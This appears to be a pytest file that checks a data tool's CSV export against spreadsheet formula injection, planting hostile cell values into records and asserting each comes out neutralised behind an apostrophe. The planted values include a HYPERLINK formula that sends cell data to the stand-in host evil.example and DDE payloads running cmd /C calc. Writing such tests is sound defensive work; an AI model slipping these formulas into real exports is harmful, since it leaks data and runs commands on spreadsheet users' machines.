"""Outputs carry data, never instructions (issue 11, item 3): hostile values planted into real
records of a copy of the dataset, run through the real CLI.

- CSV (export and --format csv): no cell starts a formula; the value is kept behind a '.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML

from .conftest import run_cli

# The starts OWASP's "CSV Injection" page lists; written out here so the test does not trust the code's list.
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")
COUNCIL = "councils/kerngroep-leren-en-werken.yaml"


def _plant(data: Path, values: dict[str, dict[str, Any]]) -> None:
    """Set fields of real records (path relative to data/ -> field -> value) and check the data stays valid."""
    yaml = YAML()
    for relative, fields in values.items():
        path = data / relative
        record = yaml.load(path.read_text(encoding="utf-8"))
        record.update(fields)
        with path.open("w", encoding="utf-8") as handle:
            yaml.dump(record, handle)
    checked = run_cli("validate", str(data))
    assert checked.returncode == 0, checked.stdout + checked.stderr


# ---------------------------------------------------------------------------- CSV

SPREADSHEET = {
    "contacts/lieve-cox.yaml": {"name": '=HYPERLINK("http://evil.example/?d="&A1;"klik")'},
    "contacts/kim-nevelsteen.yaml": {"name": "@SUM(1+1)*cmd|' /C calc'!A0"},
    "contacts/dimitri-gevers.yaml": {"name": "-2+3+cmd|' /C calc'!A0", "note": "\t=1+2"},
    "contacts/bart-van-hecke.yaml": {"name": "+1+1", "note": "\r=1+2"},
    "contacts/rob-van-es.yaml": {"note": "\n=1+2"},
    COUNCIL: {"description": "=1+2;=3+4"},
}


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_neutral(cells: list[str], planted: list[str]) -> None:
    live = [cell for cell in cells if cell.startswith(FORMULA)]
    assert not live, f"cells a spreadsheet would run as formulas: {live}"
    for value in planted:
        assert "'" + value in cells, f"{value!r} is not kept behind a '"


@pytest.fixture
def spreadsheet_data(data_copy: Path) -> Path:
    _plant(data_copy, SPREADSHEET)
    return data_copy


def test_csv_export_neutralises_every_formula_and_quotes_it(spreadsheet_data: Path, tmp_path: Path) -> None:
    folder = tmp_path / "csv"
    result = run_cli("export", "csv", "-o", str(folder), "--data", str(spreadsheet_data))
    assert result.returncode == 0, result.stderr
    texts = {p.name: p.read_bytes().decode("utf-8") for p in folder.iterdir()}  # every \r as written
    cells = [cell for text in texts.values() for cell in _cells(text)]
    _assert_neutral(cells, [v for fields in SPREADSHEET.values() for v in fields.values()])
    assert '"\'=HYPERLINK(""http://evil.example/?d=""&A1;""klik"")"' in texts["contacts.csv"]  # quoted, quotes doubled
    assert '"\'=1+2;=3+4"' in texts["councils.csv"]  # the ; cannot open a cell in a ;-splitting spreadsheet
    # A phone number from the real data starts with +: it too is kept as text, as OWASP says
    phones = [row["value"] for row in csv.DictReader(io.StringIO(texts["contact_details.csv"])) if row["type"] == "phone"]
    assert phones and all(p.startswith("'+32") for p in phones)


def test_format_csv_of_lists_and_records_neutralises_every_formula(spreadsheet_data: Path) -> None:
    listed = run_cli("contacts", "list", "-f", "csv", "--data", str(spreadsheet_data))
    shown = run_cli("councils", "show", "kerngroep-leren-en-werken", "-f", "csv", "--data", str(spreadsheet_data))
    assert listed.returncode == 0 and shown.returncode == 0, listed.stderr + shown.stderr
    names = [fields["name"] for fields in SPREADSHEET.values() if "name" in fields]
    _assert_neutral(_cells(listed.stdout), names)
    _assert_neutral(_cells(shown.stdout), ["=1+2;=3+4"])
